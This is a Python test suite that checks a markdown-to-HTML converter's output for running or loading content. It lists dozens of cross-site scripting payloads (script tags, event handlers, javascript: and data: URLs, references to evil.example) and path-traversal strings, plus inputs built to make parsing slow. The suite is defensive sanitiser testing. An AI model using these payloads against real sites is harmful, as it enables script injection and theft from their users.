"""Whatever a text says, its HTML holds nothing that runs or loads, and is well-formed."""

from __future__ import annotations

import json
import re
import runpy
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.effort import examples
from tests.properties.judging import ending, judge
from timeline.markup import MAX_BYTES, convert, link
from timeline.workers import Died, TimedOut, run

CORPUS = Path(__file__).parents[3] / "shared" / "corpora" / "safety"
no_corpus = pytest.mark.skipif(not CORPUS.is_dir(), reason="the corpus of hostile texts is not beside the checkout")


def check(text: str) -> None:
    body = convert(text, folder="a/b").body
    without_links = link(body.html, lambda address: None)
    with_links = link(body.html, lambda address: f"content:there/{address}")
    for html in {body.html, without_links, with_links}:
        judge(html)
    assert "<" not in body.lead or "&lt;" in body.html


OURS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<img src="x" srcset="//evil.example/x 2x" style="background:url(//evil.example)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import url(//evil.example)</style>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='https://example.org' target=_blank onclick=alert(1) ping=//evil.example>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/%2f/evil.example'>x</a>",
    "<a href='/..//evil.example'>x</a>",
    "<a href='content:../../secret'>x</a>",
    "<a href='x.md\" onclick=alert(1) \"'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](../../../etc/passwd)",
    "[x](..%2f..%2f..%2fetc/passwd)",
    "[x](%2e%2e/%2e%2e/%2e%2e/etc/passwd)",
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org 'title\" onmouseover=\"alert(1)')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript://x%0aalert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '![x" onerror="alert(1)](x.jpg)',
    "![<script>alert(1)</script>](x.jpg)",
    "# <img src=x onerror=alert(1)>",
    "# tl-sources\n\n# tl-sources\n\n# fn-1\n\nx[^1]\n\n[^1]: y",
    "<h2 id=tl-sources>x</h2><p id=fn-1>y</p><div class=footnote>z</div><sup class=cite>1</sup>",
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "``` {#tl-x .y onclick=alert(1)}\nx\n```",
    "`</code><script>alert(1)</script>`",
    '*[X]: "><script>alert(1)</script>\n\nX',
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: note',
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 <b>x</b>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<p style='position:fixed' class=x id=y tabindex=1 contenteditable data-x=1 aria-label=z>x</p>",
    "<ul>loose<li>a</ul><li>b</li><td>c</td><p><ul><li><h2>x<h3>y",
    "<a href=#x>a<table><td><a href=#y>b</a></td></table></a>",
    "x[^it's] [y[^it's] [^s]](z)\n\n[^it's]: <a href='x'>open <sup><b>",
    "<!-- comment --> <![CDATA[x]]> <?php x ?> <!doctype html>",
]


@pytest.mark.parametrize("text", OURS)
def test_hostile_texts(text: str) -> None:
    check(text)
    check(f"- item\n\n    {text}\n\n> {text}\n\n| {text} |\n")


@no_corpus
@pytest.mark.parametrize("part", range(8))
def test_collected_payloads(part: int) -> None:
    lines = (CORPUS / "xss.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) > 7000
    for line in lines[part::8]:
        check(json.loads(line)["p"])


@no_corpus
def test_naughty_strings() -> None:
    for text in json.loads((CORPUS / "blns.json").read_text(encoding="utf-8")):
        check(text)


@no_corpus
def test_examples_of_the_commonmark_specification() -> None:
    texts = [example["md"] for example in json.loads((CORPUS / "markdown" / "spec.json").read_text(encoding="utf-8"))]
    for text in texts:
        check(text)


TOKENS = re.findall(
    r"\S+",
    r"""
a b é 漢 1969. - * ** _ ` ``` ~~~ # ## > | |-|-| [ ] ( ) ![ ]( [^ ]: [^1] [^1]:x *[ [^it's] [^it's]: [a[^1]](b)
<sup> </sup> </a> *[ : ; & &# &lt; &#106; < > <b> </b>
<a <ul> </ul> <li> <td> <table> <p> </p> <h2> </h2> <details> <img src= href= x.md ../ / // \ % %2e http:// https://e.org
javascript: data: content: " ' =
""",
)
SPACES = [
    '<a href="x">',
    "\n\n[^1]: ",
    "\n",
    "\n\n",
    "    ",
    "  \n",
    " ",
    "\t",
    "\x00",
    "\x02",
    "\x03",
    "\u2028",
    "\ufdd0",
]
MARKUP = st.lists(st.sampled_from(TOKENS + SPACES), max_size=40).map("".join)


@examples(300)
@given(MARKUP)
def test_any_mixture_of_markup(text: str) -> None:
    check(text)


@examples(150)
@given(st.text(max_size=200))
def test_any_text(text: str) -> None:
    check(text)


SMALL_BOMBS: list[str] = [
    "[" * 2000,
    "![[]()" * 150,
    "<a " * 600,
    "<div>" * 600,
    "".join("    " * depth + "* a\n" for depth in range(30)),
    "> " * 600 + "a",
    "*a **a " * 60 + "b" + " a** a*" * 60,
    "".join(f"[^{i}]: [^{i + 1}]\n\n" for i in range(120)) + "[^0]",
    "a" * (MAX_BYTES + 1),
    "é" * (MAX_BYTES // 2 + 1),
]


def test_texts_made_to_take_long_end_in_time() -> None:
    results = run(ending, SMALL_BOMBS, jobs=2, seconds=20)
    assert not [result for result in results if isinstance(result, TimedOut | Died)]
    assert results[-1] == results[-2] == "the text is longer than 100 KB"


@no_corpus
def test_pathological_texts_end_in_time_or_are_stopped() -> None:
    cases: dict[str, Callable[[int], str]] = runpy.run_path(str(CORPUS / "markdown" / "pathological.py"))["CASES"]
    texts = [make(1200) for make in cases.values()]
    assert len(texts) == 84
    results = run(ending, texts, jobs=2, seconds=5)
    assert len(results) == len(texts)
    assert sum(result == "html" for result in results) > 70
